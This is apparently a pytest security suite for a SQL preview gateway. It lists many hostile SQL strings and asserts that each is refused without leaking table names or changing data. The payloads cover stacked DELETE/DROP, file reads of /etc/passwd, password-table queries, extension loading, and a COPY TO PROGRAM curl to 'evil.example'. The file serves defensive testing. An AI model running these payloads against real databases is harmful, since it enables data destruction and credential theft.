"""Hostile SQL through ``previewQuery``: every case is refused with its exact code, no physical name
of a version the caller may not see leaks, and nothing changed in the warehouse or the catalog.

Each case runs on SQLite (catalog and warehouse) and on PostgreSQL (catalog and warehouse), and
names the ``dialect`` the attacker claims to write in.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from tests.security.snapshot import unchanged
from tests.support.harness import Gateway

PREVIEW = """mutation($sql: String!, $dialect: String, $pins: [PinInput!]! = []) {
  previewQuery(input: {sql: $sql, dialect: $dialect, pins: $pins}) { id sql tablesUsed { physicalName } } }"""
VALIDATE = """query($sql: String!, $dialect: String) { validateQuery(sql: $sql, dialect: $dialect) {
  valid errors { code message } } }"""

# Physical names in the demo catalog; none may appear in an answer unless the caller typed it.
PHYSICAL = ("orders__v1", "orders__v2", "spyne_shadow__order_events__v1", "spyne_shadow")


@dataclass(frozen=True)
class Case:
    id: str
    sql: str
    code: str
    dialect: str | None = None
    role: str = "ADMIN"


def cases(code: str, dialect: str | None, *pairs: tuple[str, str], role: str = "ADMIN") -> list[Case]:
    return [Case(i, sql, code, dialect, role) for i, sql in pairs]


DML_DDL = cases(
    "NOT_A_QUERY", None,
    ("delete", "DELETE FROM orders"),
    ("delete-after-block-comment", "/* a harmless report */ DELETE FROM orders"),
    ("drop-after-line-comment", "-- just a select\nDROP TABLE orders"),
    ("stacked-drop", "SELECT * FROM orders; DROP TABLE orders"),
    ("stacked-no-space-trailing-comment", "SELECT * FROM orders;DELETE FROM customers--"),
    ("stacked-after-semicolon-in-string", "SELECT 'a;' AS x; DELETE FROM orders"),
    ("stacked-quote-breakout", "SELECT * FROM orders WHERE status = ''; DELETE FROM orders; --'"),
    ("stacked-mixed-case", "SeLeCt 1; dElEtE fRoM orders"),
    ("stacked-over-newlines", "SELECT id FROM orders\n;\n\nDELETE FROM orders"),
    ("stacked-after-union", "SELECT 1 UNION ALL SELECT 2; INSERT INTO customers (id) VALUES (-1)"),
    ("stacked-in-transaction", "BEGIN; DELETE FROM orders; COMMIT"),
    ("cte-delete", "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x"),
    ("cte-insert", "WITH x AS (INSERT INTO customers (id) VALUES (-1) RETURNING id) SELECT * FROM x"),
    ("cte-update", "WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM x"),
    ("select-into", "SELECT * INTO stolen FROM orders"),
    ("create-table-as", "CREATE TABLE stolen AS SELECT * FROM customers"),
    ("insert-select", "INSERT INTO customers SELECT * FROM customers"),
    ("update", "UPDATE orders SET total = 0"),
    ("merge", "MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE"),
    ("truncate", "TRUNCATE TABLE orders"),
    ("alter", "ALTER TABLE orders ADD COLUMN pwned INT"),
    ("drop-if-exists", "DROP TABLE IF EXISTS customers"),
    ("create-view", "CREATE VIEW v AS SELECT * FROM customers"),
    ("create-index", "CREATE INDEX i ON customers (email)"),
    ("grant", "GRANT ALL ON orders TO PUBLIC"),
    ("explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM orders"),
)

SQLITE = cases(
    "NOT_A_QUERY", "sqlite",
    ("sqlite-pragma-set", "PRAGMA writable_schema = ON"),
    ("sqlite-pragma-read", "PRAGMA table_info(orders)"),
    ("sqlite-attach", "ATTACH DATABASE '/tmp/evil.db' AS evil"),
    ("sqlite-detach", "DETACH DATABASE main"),
    ("sqlite-vacuum-into", "VACUUM INTO '/tmp/stolen.db'"),
    ("sqlite-replace-into", "REPLACE INTO customers (id) VALUES (-1)"),
    ("sqlite-insert-or-ignore", "INSERT OR IGNORE INTO customers (id) VALUES (-1)"),
    ("sqlite-reindex", "REINDEX"),
    ("sqlite-analyze", "ANALYZE"),
) + cases(
    "FORBIDDEN_FUNCTION", "sqlite",
    ("sqlite-load-extension", "SELECT load_extension('/tmp/evil.so')"),
    ("sqlite-readfile", "SELECT readfile('/etc/passwd')"),
    ("sqlite-writefile", "SELECT writefile('/tmp/pwned', 'x')"),
    ("sqlite-fts3-tokenizer", "SELECT fts3_tokenizer('simple')"),
    ("sqlite-randomblob-dos", "SELECT randomblob(1000000000)"),
    ("sqlite-zeroblob-dos", "SELECT zeroblob(1000000000)"),
    ("sqlite-version-fingerprint", "SELECT sqlite_version()"),
    ("sqlite-load-extension-in-where", "SELECT id FROM customers WHERE load_extension('x') IS NULL"),
    ("sqlite-load-extension-upper", "SELECT LOAD_EXTENSION('/tmp/evil.so')"),
)

POSTGRES = cases(
    "NOT_A_QUERY", "postgres",
    ("pg-copy-to-program", "COPY orders TO PROGRAM 'curl http://evil.example/'"),
    ("pg-copy-query-to-file", "COPY (SELECT * FROM customers) TO '/tmp/customers.csv'"),
    ("pg-copy-from-file", "COPY customers FROM '/etc/passwd'"),
    ("pg-select-into-temp", "SELECT id INTO TEMP stolen FROM customers"),
    ("pg-for-update", "SELECT * FROM orders FOR UPDATE"),
    ("pg-set-role", "SET ROLE postgres"),
    ("pg-set-read-write", "SET default_transaction_read_only = off"),
    ("pg-do-block", "DO $$ BEGIN DELETE FROM orders; END $$"),
    ("pg-listen", "LISTEN spyne"),
    ("pg-vacuum", "VACUUM customers"),
    ("pg-load", "LOAD 'evil'"),
    ("pg-call", "CALL evil()"),
) + cases(
    "FORBIDDEN_FUNCTION", "postgres",
    ("pg-read-file", "SELECT pg_read_file('/etc/passwd')"),
    ("pg-read-file-schema-qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')"),
    ("pg-read-file-quoted", 'SELECT "pg_read_file"(\'/etc/passwd\')'),
    ("pg-read-binary-file", "SELECT pg_read_binary_file('/etc/passwd')"),
    ("pg-ls-dir", "SELECT * FROM pg_ls_dir('.')"),
    ("pg-stat-file", "SELECT pg_stat_file('postgresql.conf')"),
    ("pg-lo-import", "SELECT lo_import('/etc/passwd')"),
    ("pg-lo-export", "SELECT lo_export(1, '/tmp/x')"),
    ("pg-dblink", "SELECT * FROM dblink('host=evil.example', 'SELECT 1') AS t(x int)"),
    ("pg-set-config", "SELECT set_config('default_transaction_read_only', 'off', false)"),
    ("pg-current-setting", "SELECT current_setting('data_directory')"),
    ("pg-sleep", "SELECT pg_sleep(100)"),
    ("pg-terminate-backend", "SELECT pg_terminate_backend(1)"),
    ("pg-query-to-xml", "SELECT query_to_xml('select * from pg_authid', true, true, '')"),
    ("pg-nextval", "SELECT nextval('orders_id_seq')"),
    ("pg-version", "SELECT version()"),
    ("pg-txid-current", "SELECT txid_current()"),
)

DUCKDB = cases(
    "NOT_A_QUERY", "duckdb",
    ("duckdb-install", "INSTALL httpfs"),
    ("duckdb-load", "LOAD httpfs"),
    ("duckdb-copy-to", "COPY orders TO '/tmp/orders.parquet' (FORMAT PARQUET)"),
    ("duckdb-attach", "ATTACH 'evil.db' AS evil"),
    ("duckdb-set-external-access", "SET enable_external_access = true"),
) + cases(
    "FORBIDDEN_FUNCTION", "duckdb",
    ("duckdb-read-csv", "SELECT * FROM read_csv('/etc/passwd')"),
    ("duckdb-read-csv-auto", "SELECT * FROM read_csv_auto('/etc/passwd')"),
    ("duckdb-read-parquet", "SELECT * FROM read_parquet('s3://bucket/x.parquet')"),
    ("duckdb-read-json-auto", "SELECT * FROM read_json_auto('/etc/passwd')"),
    ("duckdb-read-text", "SELECT * FROM read_text('/etc/passwd')"),
    ("duckdb-glob", "SELECT * FROM glob('/*')"),
    ("duckdb-from-first-read-csv", "FROM read_csv('/etc/passwd')"),
    ("duckdb-getenv", "SELECT getenv('HOME')"),
    ("duckdb-read-csv-schema-qualified", "SELECT * FROM main.read_csv('/etc/passwd')"),
    ("duckdb-parquet-scan-in-join", "SELECT c.id FROM customers c JOIN parquet_scan('/x.parquet') p ON c.id = p.id"),
) + cases(
    "INVALID_SQL", "duckdb",
    ("duckdb-export", "EXPORT DATABASE '/tmp/everything'"),
    ("duckdb-create-secret-unparsable", "CREATE SECRET (TYPE S3, KEY_ID 'x', SECRET 'y')"),
) + cases(
    "TABLE_NOT_FOUND", "duckdb",
    ("duckdb-file-as-table", "SELECT * FROM '/etc/passwd'"),
    ("duckdb-url-as-table", "SELECT * FROM 'https://evil.example/x.csv'"),
)

PHYSICAL_NAMES = cases(
    "TABLE_NOT_FOUND", None,
    ("physical-active", "SELECT * FROM orders__v2"),
    ("physical-deprecated-quoted-upper", 'SELECT * FROM "ORDERS__V1"'),
    ("physical-upper-unquoted", "SELECT * FROM ORDERS__V2"),
    ("physical-quoted", 'SELECT * FROM "orders__v2"'),
    ("physical-main-schema", "SELECT * FROM main.customers"),
    ("physical-main-versioned", "SELECT * FROM main.orders__v2"),
    ("physical-public-schema", "SELECT * FROM public.orders__v2"),
    ("physical-public-quoted", 'SELECT * FROM "public"."orders__v2"'),
    ("physical-three-part", "SELECT * FROM spyne.main.orders__v2"),
    ("shadow-schema", "SELECT * FROM spyne_shadow.order_events__v1"),
    ("shadow-prefix", "SELECT * FROM spyne_shadow__order_events__v1"),
    ("shadow-prefix-quoted", 'SELECT * FROM "spyne_shadow__order_events__v1"'),
    ("shadow-prefix-upper", "SELECT * FROM SPYNE_SHADOW__ORDER_EVENTS__V1"),
    ("ingest-space", "SELECT * FROM spyne_ingest__landing"),
    ("ingest-schema", "SELECT * FROM spyne_ingest.keys"),
    ("physical-in-join", "SELECT o.id FROM orders o JOIN orders__v1 p ON o.id = p.id"),
    ("physical-in-subquery", "SELECT id FROM orders WHERE id IN (SELECT id FROM orders__v1)"),
    ("physical-in-cte", "WITH o AS (SELECT * FROM orders__v2) SELECT * FROM o"),
    ("physical-in-union", "SELECT id FROM orders UNION SELECT id FROM orders__v1"),
    ("physical-in-exists", "SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM orders__v2 o WHERE o.customer_id = c.id)"),
    ("physical-aliased-as-logical", "SELECT * FROM orders__v2 AS orders"),
    ("catalog-table-users", "SELECT * FROM users"),
    ("catalog-table-audit", "SELECT * FROM audit_events"),
) + cases(
    "TABLE_NOT_FOUND", "tsql",
    ("physical-brackets", "SELECT * FROM [orders__v2]"),
    ("shadow-brackets", "SELECT * FROM [spyne_shadow__order_events__v1]"),
) + cases(
    "TABLE_NOT_FOUND", "mysql",
    ("physical-backticks", "SELECT * FROM `orders__v2`"),
    ("shadow-backticks-schema", "SELECT * FROM `spyne_shadow`.`order_events__v1`"),
) + cases(
    "TABLE_NOT_FOUND", "sqlite",
    ("physical-backticks-sqlite", "SELECT * FROM `orders__v1`"),
    ("physical-brackets-sqlite", "SELECT * FROM [orders__v1]"),
) + [
    Case("shadow-logical-viewer", "SELECT * FROM order_events", "TABLE_NOT_FOUND", role="VIEWER"),
    Case("shadow-logical-analyst", "SELECT * FROM order_events", "TABLE_NOT_FOUND", role="ANALYST"),
    Case("shadow-physical-viewer", "SELECT * FROM spyne_shadow__order_events__v1", "TABLE_NOT_FOUND", role="VIEWER"),
]

SYSTEM_CATALOGS = cases(
    "TABLE_NOT_FOUND", None,
    ("sqlite-master", "SELECT * FROM sqlite_master"),
    ("sqlite-schema", "SELECT sql FROM sqlite_schema"),
    ("sqlite-temp-master", "SELECT * FROM sqlite_temp_master"),
    ("sqlite-master-main", "SELECT * FROM main.sqlite_master"),
    ("sqlite-master-quoted-upper", 'SELECT * FROM "SQLITE_MASTER"'),
    ("sqlite-sequence", "SELECT * FROM sqlite_sequence"),
    ("sqlite-pragma-table-without-parens", "SELECT * FROM pragma_database_list"),
    ("pg-tables", "SELECT * FROM pg_catalog.pg_tables"),
    ("pg-tables-unqualified", "SELECT * FROM pg_tables"),
    ("information-schema-tables", "SELECT * FROM information_schema.tables"),
    ("information-schema-columns-quoted", 'SELECT * FROM "information_schema"."columns"'),
    ("pg-shadow", "SELECT usename, passwd FROM pg_shadow"),
    ("pg-authid", "SELECT rolname, rolpassword FROM pg_authid"),
    ("pg-user", "SELECT * FROM pg_catalog.pg_user"),
    ("pg-stat-activity", "SELECT query FROM pg_stat_activity"),
    ("pg-settings", "SELECT * FROM pg_settings"),
    ("system-catalog-in-subquery", "SELECT id FROM customers WHERE email IN (SELECT passwd FROM pg_shadow)"),
    ("system-catalog-joined", "SELECT c.id FROM customers c JOIN sqlite_master m ON m.name = c.email"),
) + cases(
    "FORBIDDEN_FUNCTION", "sqlite",
    ("sqlite-pragma-table-function", "SELECT * FROM pragma_table_info('orders__v2')"),
) + cases(
    "FORBIDDEN_FUNCTION", "duckdb",
    ("duckdb-tables-function", "SELECT * FROM duckdb_tables()"),
)

ALL = DML_DDL + SQLITE + POSTGRES + DUCKDB + PHYSICAL_NAMES + SYSTEM_CATALOGS


def test_the_suite_is_large_and_ids_are_unique() -> None:
    assert len(ALL) >= 80
    assert len({c.id for c in ALL}) == len(ALL)


def assert_no_leak(sql: str, body: dict[str, object]) -> None:
    text = str(body).lower()
    typed = sql.lower()
    leaked = [p for p in PHYSICAL if p in text and p not in typed]
    assert not leaked, f"physical names leaked: {leaked} in {body}"
    assert "traceback" not in text and 'file "' not in text


@pytest.mark.parametrize("case", ALL, ids=[c.id for c in ALL])
async def test_hostile_sql_is_refused_and_changes_nothing(hostile: Gateway, case: Case) -> None:
    async with unchanged(hostile):
        body = await hostile.gql(PREVIEW, {"sql": case.sql, "dialect": case.dialect}, role=case.role)
        validation = await hostile.gql(VALIDATE, {"sql": case.sql, "dialect": case.dialect}, role=case.role)
    assert body.get("errors"), f"{case.id} was planned: {body.get('data')}"
    assert body["errors"][0]["extensions"]["code"] == case.code, body["errors"]
    assert body["data"] is None
    assert_no_leak(case.sql, body)
    # validateQuery stores nothing and reports the same refusal as data.
    result = validation["data"]["validateQuery"]
    assert result["valid"] is False and result["errors"][0]["code"] == case.code, result
    assert_no_leak(case.sql, validation)
